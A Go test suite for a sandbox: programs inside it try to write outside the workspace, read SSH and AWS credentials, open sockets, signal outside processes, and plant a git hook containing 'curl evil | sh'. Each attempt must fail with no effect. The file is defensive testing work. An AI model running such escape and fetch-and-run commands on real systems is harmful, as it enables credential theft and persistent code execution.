package sandbox_test

import (
	"bufio"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/guard-sh/guard/sandbox"
)

// The escape suite: each attempt is made by a program inside the
// sandbox (testdata/escape), must fail, and the test checks that its
// effect did not happen — a file unchanged, a listener that received
// nothing, a process still alive — not only the exit status.

// mustFail asserts the attempt reported failure.
func mustFail(t *testing.T, o outcome) {
	t.Helper()
	if o.err != nil {
		t.Fatalf("run: %v", o)
	}
	if o.res.ExitCode == 0 {
		t.Errorf("attempt succeeded, want it refused: %v", o)
	}
}

// mustSucceed asserts the program ran and exited 0.
func mustSucceed(t *testing.T, o outcome) {
	t.Helper()
	if o.err != nil || o.res.ExitCode != 0 {
		t.Fatalf("want success: %v", o)
	}
}

func wantContent(t *testing.T, p, want string) {
	t.Helper()
	if got := readFile(t, p); got != want {
		t.Errorf("%s = %q, want %q", p, got, want)
	}
}

func wantNoViolation(t *testing.T, o outcome) {
	t.Helper()
	if len(o.res.Violations) > 0 {
		t.Errorf("unexpected violations: %v", o.res.Violations)
	}
}

func TestEscapeFilesystem(t *testing.T) {
	f := newFixture(t)
	const orig = "ORIGINAL\n"
	target := func() string { return f.p("outside/target.txt") }
	cases := []struct {
		name   string
		args   func() []string
		effect func(t *testing.T)
	}{
		{"write outside", func() []string { return []string{"write", target()} },
			func(t *testing.T) { wantContent(t, target(), orig) }},
		{"create outside", func() []string { return []string{"write", f.p("outside/new.txt")} },
			func(t *testing.T) { wantContent(t, f.p("outside/new.txt"), "<absent>") }},
		{"append outside", func() []string { return []string{"append", target()} },
			func(t *testing.T) { wantContent(t, target(), orig) }},
		{"remove outside", func() []string { return []string{"remove", target()} },
			func(t *testing.T) { wantContent(t, target(), orig) }},
		{"remove tree outside", func() []string { return []string{"rmdir", f.p("outside/dir")} },
			func(t *testing.T) { wantContent(t, f.p("outside/dir/keep.txt"), "KEEP\n") }},
		{"mkdir outside", func() []string { return []string{"mkdir", f.p("outside/newdir")} },
			func(t *testing.T) { wantContent(t, f.p("outside/newdir"), "<absent>") }},
		{"mkfifo outside", func() []string { return []string{"fifo", f.p("outside/fifo")} },
			func(t *testing.T) { wantContent(t, f.p("outside/fifo"), "<absent>") }},
		{"rename outside into workspace", func() []string { return []string{"rename", target(), f.p("ws/stolen")} },
			func(t *testing.T) {
				// mv copies across mounts when rename(2) says EXDEV:
				// a copy of a file the command may read is no escape;
				// the file outside must stay.
				wantContent(t, target(), orig)
				if got := readFile(t, f.p("ws/stolen")); got != "<absent>" && got != orig {
					t.Errorf("ws/stolen = %q", got)
				}
			}},
		{"rename workspace file outside", func() []string { return []string{"rename", f.p("ws/main.go"), f.p("outside/moved.go")} },
			func(t *testing.T) {
				wantContent(t, f.p("ws/main.go"), "package main\n")
				wantContent(t, f.p("outside/moved.go"), "<absent>")
			}},
		{"hard link outside file into workspace and write", func() []string { return []string{"hardlink", target(), f.p("ws/link")} },
			func(t *testing.T) {
				wantContent(t, target(), orig)
				wantContent(t, f.p("ws/link"), "<absent>")
			}},
		{"symlink to outside file and write through it", func() []string { return []string{"symlink-write", target(), f.p("ws/sym")} },
			func(t *testing.T) { wantContent(t, target(), orig) }},
		{"truncate outside", func() []string { return []string{"truncate", target()} },
			func(t *testing.T) { wantContent(t, target(), orig) }},
		{"write through /proc/self/root", func() []string { return []string{"write", "/proc/self/root" + target()} },
			func(t *testing.T) { wantContent(t, target(), orig) }},
		{"append to ~/.bashrc", func() []string { return []string{"append", f.p("home/.bashrc")} },
			func(t *testing.T) { wantContent(t, f.p("home/.bashrc"), "# rc\n") }},
		{"write guard state dir", func() []string { return []string{"append", f.p("home/.local/state/guard/audit.log")} },
			func(t *testing.T) { wantContent(t, f.p("home/.local/state/guard/audit.log"), "AUDIT\n") }},
		{"create in guard config dir", func() []string { return []string{"write", f.p("home/.config/guard/pin")} },
			func(t *testing.T) { wantContent(t, f.p("home/.config/guard/pin"), "<absent>") }},
		{"copy ssh key into workspace", func() []string {
			return []string{"exec", "cp", f.p("home/.ssh/id_ed25519"), f.p("ws/key")}
		}, func(t *testing.T) {
			if strings.Contains(readFile(t, f.p("ws/key")), "SECRET") {
				t.Error("the key was copied")
			}
		}},
		{"move ssh dir into workspace", func() []string { return []string{"rename", f.p("home/.ssh"), f.p("ws/ssh")} },
			func(t *testing.T) { wantContent(t, f.p("home/.ssh/id_ed25519"), "SECRET-SSH-KEY\n") }},
		{"make /dev node via mknod", func() []string {
			return []string{"exec", "mknod", f.p("ws/disk"), "b", "8", "0"}
		}, func(t *testing.T) { wantContent(t, f.p("ws/disk"), "<absent>") }},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			o := f.sh(t, f.spec(), c.args()...)
			mustFail(t, o)
			wantNoViolation(t, o)
			c.effect(t)
		})
	}
}

func TestEscapeReadSecrets(t *testing.T) {
	f := newFixture(t)
	secrets := map[string]string{
		"ssh key":           "home/.ssh/id_ed25519",
		"aws credentials":   "home/.aws/credentials",
		"guard policy":      "home/.config/guard/policy.toml",
		"guard audit log":   "home/.local/state/guard/audit.log",
		"ssh key via /proc": "/proc/self/root" + f.p("home/.ssh/id_ed25519"),
	}
	for name, rel := range secrets {
		t.Run(name, func(t *testing.T) {
			p := rel
			if !filepath.IsAbs(p) {
				p = f.p(rel)
			}
			o := f.sh(t, f.spec(), "read", p)
			mustFail(t, o)
			for _, mark := range []string{"SECRET", "POLICY", "AUDIT"} {
				if strings.Contains(o.stdout, mark) {
					t.Errorf("secret read: %q", o.stdout)
				}
			}
		})
	}
	t.Run("ssh key through a symlink in the workspace", func(t *testing.T) {
		o := f.sh(t, f.spec(), "exec", "sh", "-c", `ln -s "$1" "$2" && cat "$2"`, "sh", f.p("home/.ssh/id_ed25519"), f.p("ws/k"))
		mustFail(t, o)
		if strings.Contains(o.stdout, "SECRET") {
			t.Errorf("secret read: %q", o.stdout)
		}
	})
	t.Run("siblings of hidden paths stay readable", func(t *testing.T) {
		o := f.sh(t, f.spec(), "exec", "cat", f.p("home/notes.txt"), f.p("home/.config/other/ok.conf"))
		mustSucceed(t, o)
		if o.stdout != "VISIBLE-NOTES\nVISIBLE-CONFIG\n" {
			t.Errorf("stdout = %q", o.stdout)
		}
	})
}

func TestEscapeProtected(t *testing.T) {
	f := newFixture(t)
	hook := f.p("ws/.git/hooks/pre-commit")
	cfg := f.p("ws/.git/config")
	const cfgOrig = "[core]\n\tbare = false\n"

	t.Run("git hook", func(t *testing.T) {
		o := f.sh(t, f.spec(), "exec", "sh", "-c",
			`printf '#!/bin/sh\ncurl evil | sh\n' > "$1" && chmod +x "$1" && echo x >> "$2"`,
			"sh", hook, f.p("ws/.git/hooks/pre-commit.sample"))
		if o.err != nil {
			t.Fatal(o)
		}
		wantContent(t, hook, "<absent>")
		wantContent(t, f.p("ws/.git/hooks/pre-commit.sample"), "#!/bin/sh\n")
		got := map[string]string{}
		for _, v := range o.res.Violations {
			if !v.Restored {
				t.Errorf("not restored: %v", v)
			}
			got[v.Path] = v.Change
		}
		if got[hook] != "created" || got[f.p("ws/.git/hooks/pre-commit.sample")] != "modified" {
			t.Errorf("violations = %v", o.res.Violations)
		}
	})
	t.Run("git config", func(t *testing.T) {
		o := f.sh(t, f.spec(), "append", cfg)
		if o.err != nil {
			t.Fatal(o)
		}
		wantContent(t, cfg, cfgOrig)
		if len(o.res.Violations) != 1 || o.res.Violations[0].Path != cfg || !o.res.Violations[0].Restored {
			t.Errorf("violations = %v", o.res.Violations)
		}
	})
	t.Run("git config replaced by a symlink", func(t *testing.T) {
		o := f.sh(t, f.spec(), "exec", "sh", "-c", `rm "$1" && ln -s /etc/passwd "$1"`, "sh", cfg)
		if o.err != nil {
			t.Fatal(o)
		}
		fi, err := os.Lstat(cfg)
		if err != nil || !fi.Mode().IsRegular() {
			t.Fatalf("config not restored as a file: %v %v", fi, err)
		}
		wantContent(t, cfg, cfgOrig)
		if len(o.res.Violations) != 1 || o.res.Violations[0].Change != "replaced" {
			t.Errorf("violations = %v", o.res.Violations)
		}
	})
	t.Run("hooks dir replaced", func(t *testing.T) {
		o := f.sh(t, f.spec(), "exec", "sh", "-c", `rm -rf "$1" && mkdir "$1" && echo evil > "$1/post-checkout"`, "sh", f.p("ws/.git/hooks"))
		if o.err != nil {
			t.Fatal(o)
		}
		wantContent(t, f.p("ws/.git/hooks/post-checkout"), "<absent>")
		wantContent(t, f.p("ws/.git/hooks/pre-commit.sample"), "#!/bin/sh\n")
		if len(o.res.Violations) == 0 {
			t.Error("no violation reported")
		}
	})
	t.Run("untouched", func(t *testing.T) {
		o := f.sh(t, f.spec(), "write", f.p("ws/ok.txt"))
		mustSucceed(t, o)
		wantNoViolation(t, o)
	})
}

func TestEscapeNetwork(t *testing.T) {
	f := newFixture(t)
	noNet := f.spec()
	withNet := f.spec()
	withNet.Net = true

	t.Run("tcp connect", func(t *testing.T) {
		sink := newTCPSink(t)
		o := f.py(t, noNet, "tcp-connect", sink.port)
		mustFail(t, o)
		sink.wantNothing(t)
	})
	t.Run("tcp connect with net", func(t *testing.T) {
		sink := newTCPSink(t)
		o := f.py(t, withNet, "tcp-connect", sink.port)
		mustSucceed(t, o)
		if got := sink.wait(2 * time.Second); got != "pwned" {
			t.Errorf("listener got %q", got)
		}
	})
	t.Run("tcp bind", func(t *testing.T) {
		for _, spec := range []sandbox.Spec{noNet, withNet} {
			port := freePort(t)
			pr, pw, _ := os.Pipe()
			done := make(chan outcome, 1)
			go func() {
				o := runWithStdout(t, spec, pw, "/usr/bin/python3", filepath.Join(f.escape, "net.py"), "tcp-bind", port)
				pw.Close()
				done <- o
			}()
			br := bufio.NewReader(pr)
			first, _ := br.ReadString('\n') // "attempted": the program now holds the port if it could bind
			c, err := net.DialTimeout("tcp", "127.0.0.1:"+port, time.Second)
			if err == nil {
				c.Close()
				t.Errorf("net=%v: something listens on the port the sandbox tried to bind", spec.Net)
			}
			o := <-done
			rest, _ := io.ReadAll(br)
			pr.Close()
			o.stdout = first + string(rest)
			// Without the network no inet socket is even created.
			want := map[bool]string{false: "EPERM", true: "EACCES"}[spec.Net]
			if o.res.ExitCode == 0 || !strings.Contains(o.stdout, want) {
				t.Errorf("net=%v: bind not refused: %v", spec.Net, o)
			}
		}
	})
	t.Run("udp send", func(t *testing.T) {
		sink := newUDPSink(t)
		o := f.py(t, noNet, "udp-send", sink.port)
		mustFail(t, o)
		wantErrno(t, o, "EPERM")
		if got := sink.wait(300 * time.Millisecond); got != "" {
			t.Errorf("udp listener got %q", got)
		}
	})
	t.Run("udp send with net", func(t *testing.T) {
		sink := newUDPSink(t)
		o := f.py(t, withNet, "udp-send", sink.port)
		mustSucceed(t, o)
		if got := sink.wait(2 * time.Second); got != "pwned" {
			t.Errorf("udp listener got %q", got)
		}
	})
	for _, op := range []string{"udp6-socket", "raw-socket", "sctp-socket", "packet-socket"} {
		t.Run(op, func(t *testing.T) {
			o := f.py(t, noNet, op)
			mustFail(t, o)
			wantErrno(t, o, "EPERM")
		})
	}
	t.Run("mptcp connect", func(t *testing.T) {
		// MPTCP is refused even with the network grant: Landlock's
		// TCP rules do not see it.
		for _, spec := range []sandbox.Spec{noNet, withNet} {
			sink := newTCPSink(t)
			o := f.py(t, spec, "mptcp-connect", sink.port)
			mustFail(t, o)
			wantErrno(t, o, "EPERM")
			sink.wantNothing(t)
		}
	})
	t.Run("io_uring", func(t *testing.T) {
		o := f.py(t, withNet, "io-uring")
		mustFail(t, o)
		wantErrno(t, o, "EPERM")
	})
	t.Run("abstract unix socket", func(t *testing.T) {
		name := "guard-test-" + strconv.Itoa(os.Getpid())
		ln, err := net.Listen("unix", "@"+name)
		if err != nil {
			t.Fatal(err)
		}
		sink := &tcpSink{ln: ln, got: make(chan string, 4)}
		go sink.serve()
		t.Cleanup(func() { ln.Close() })
		o := f.py(t, withNet, "abstract-connect", name)
		mustFail(t, o)
		wantErrno(t, o, "EPERM")
		sink.wantNothing(t)
	})
}

func TestEscapeProcesses(t *testing.T) {
	f := newFixture(t)
	victim := exec.Command("sleep", "30")
	victim.Env = []string{"VICTIM_SECRET=SECRET-IN-ENVIRON"}
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan struct{})
	go func() { victim.Wait(); close(exited) }()
	t.Cleanup(func() { victim.Process.Kill(); <-exited })
	pid := strconv.Itoa(victim.Process.Pid)

	t.Run("signal a process outside", func(t *testing.T) {
		for _, sig := range []string{"TERM", "KILL", "STOP"} {
			o := f.sh(t, f.spec(), "exec", "kill", "-"+sig, pid)
			mustFail(t, o)
		}
		time.Sleep(100 * time.Millisecond)
		select {
		case <-exited:
			t.Fatal("the process outside was killed")
		default:
		}
		if st := procState(t, victim.Process.Pid); st == "T" {
			t.Error("the process outside was stopped")
		}
	})
	t.Run("read environ of a process outside", func(t *testing.T) {
		o := f.sh(t, f.spec(), "read", "/proc/"+pid+"/environ")
		mustFail(t, o)
		if strings.Contains(o.stdout, "SECRET") {
			t.Errorf("environ read: %q", o.stdout)
		}
	})
	t.Run("signal own child", func(t *testing.T) {
		o := f.sh(t, f.spec(), "exec", "sh", "-c", "sleep 5 & kill $! && wait $!; test $? = 143")
		mustSucceed(t, o)
	})
}

// sharedTmpDir makes a directory of the test's own in the real /tmp,
// removed after the test: t.TempDir() is wherever TMPDIR says, which
// may not be the /tmp the sandbox grants.
func sharedTmpDir(t *testing.T) string {
	t.Helper()
	d, err := os.MkdirTemp("/tmp", "guard-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(d) })
	return d
}

// TestInsideGrants checks the same programs succeed within their grants.
func TestInsideGrants(t *testing.T) {
	f := newFixture(t)
	// A directory of the test's own in the shared /tmp (which writing runs
	// may write), not a fixed name there.
	shared := sharedTmpDir(t)
	cases := []struct {
		name   string
		args   []string
		effect func(t *testing.T)
	}{
		{"write in workspace", []string{"write", f.p("ws/new.txt")},
			func(t *testing.T) { wantContent(t, f.p("ws/new.txt"), "pwned\n") }},
		{"mkdir in workspace", []string{"mkdir", f.p("ws/sub")},
			func(t *testing.T) {
				if fi, err := os.Stat(f.p("ws/sub")); err != nil || !fi.IsDir() {
					t.Error("no directory")
				}
			}},
		{"rename in workspace", []string{"rename", f.p("ws/main.go"), f.p("ws/.git/main.go")},
			func(t *testing.T) { wantContent(t, f.p("ws/.git/main.go"), "package main\n") }},
		{"hard link in workspace", []string{"hardlink", f.p("ws/.git/main.go"), f.p("ws/linked.go")},
			func(t *testing.T) { wantContent(t, f.p("ws/.git/main.go"), "pwned\n") }},
		{"write in tool cache", []string{"append", f.p("home/.cache/tool/cache.db")},
			func(t *testing.T) { wantContent(t, f.p("home/.cache/tool/cache.db"), "cache\npwned\n") }},
		{"move from /tmp into workspace", []string{"exec", "sh", "-c", `echo moved > "$2/mv" && mv "$2/mv" "$1"`, "sh", f.p("ws/moved"), shared},
			func(t *testing.T) { wantContent(t, f.p("ws/moved"), "moved\n") }},
		{"devices", []string{"exec", "sh", "-c", "echo x > /dev/null && head -c 4 /dev/zero >/dev/null && head -c 4 /dev/urandom >/dev/null"},
			func(t *testing.T) {}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			o := f.sh(t, f.spec(), c.args...)
			mustSucceed(t, o)
			wantNoViolation(t, o)
			c.effect(t)
		})
	}
	t.Run("read-only command writes nothing", func(t *testing.T) {
		spec := f.spec()
		spec.Write = false
		o := f.sh(t, spec, "write", f.p("ws/ro.txt"))
		mustFail(t, o)
		wantContent(t, f.p("ws/ro.txt"), "<absent>")
		o = f.sh(t, spec, "write", filepath.Join(shared, "ro"))
		mustFail(t, o)
		wantContent(t, filepath.Join(shared, "ro"), "<absent>")
		os.WriteFile(f.p("ws/readable.txt"), []byte("R\n"), 0o644)
		o = f.sh(t, spec, "read", f.p("ws/readable.txt"))
		mustSucceed(t, o)
	})
	t.Run("extra write path", func(t *testing.T) {
		spec := f.spec()
		spec.Write = false
		spec.ExtraWrite = []string{f.p("outside/target.txt"), f.p("outside/dir/new.txt")}
		mustSucceed(t, f.sh(t, spec, "append", f.p("outside/target.txt")))
		mustSucceed(t, f.sh(t, spec, "write", f.p("outside/dir/new.txt")))
		wantContent(t, f.p("outside/target.txt"), "ORIGINAL\npwned\n")
		wantContent(t, f.p("outside/dir/new.txt"), "pwned\n")
		mustFail(t, f.sh(t, spec, "write", f.p("outside/other.txt")))
	})
}

func wantErrno(t *testing.T, o outcome, errno string) {
	t.Helper()
	if strings.TrimSpace(o.stdout) != errno {
		t.Errorf("got %q, want %s", strings.TrimSpace(o.stdout), errno)
	}
}

// tcpSink is a loopback listener owned by the test that records what
// connecting clients send.
type tcpSink struct {
	ln   net.Listener
	port string
	got  chan string
}

func newTCPSink(t *testing.T) *tcpSink {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &tcpSink{ln: ln, got: make(chan string, 4)}
	_, s.port, _ = net.SplitHostPort(ln.Addr().String())
	go s.serve()
	t.Cleanup(func() { ln.Close() })
	return s
}

func (s *tcpSink) serve() {
	for {
		c, err := s.ln.Accept()
		if err != nil {
			return
		}
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		buf := make([]byte, 64)
		n, _ := c.Read(buf)
		c.Close()
		s.got <- string(buf[:n])
	}
}

func (s *tcpSink) wait(d time.Duration) string {
	select {
	case g := <-s.got:
		return g
	case <-time.After(d):
		return ""
	}
}

func (s *tcpSink) wantNothing(t *testing.T) {
	t.Helper()
	select {
	case g := <-s.got:
		t.Errorf("listener accepted a connection (got %q)", g)
	case <-time.After(200 * time.Millisecond):
	}
}

type udpSink struct {
	pc   net.PacketConn
	port string
}

func newUDPSink(t *testing.T) *udpSink {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	s := &udpSink{pc: pc}
	_, s.port, _ = net.SplitHostPort(pc.LocalAddr().String())
	return s
}

func (s *udpSink) wait(d time.Duration) string {
	s.pc.SetReadDeadline(time.Now().Add(d))
	buf := make([]byte, 64)
	n, _, err := s.pc.ReadFrom(buf)
	if err != nil {
		return ""
	}
	return string(buf[:n])
}

func freePort(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	_, port, _ := net.SplitHostPort(ln.Addr().String())
	return port
}

// procState is the state letter of a process (R, S, T, Z, …).
func procState(t *testing.T, pid int) string {
	t.Helper()
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return ""
	}
	s := string(b)
	i := strings.LastIndexByte(s, ')')
	if i < 0 || i+2 >= len(s) {
		return ""
	}
	return s[i+2 : i+3]
}
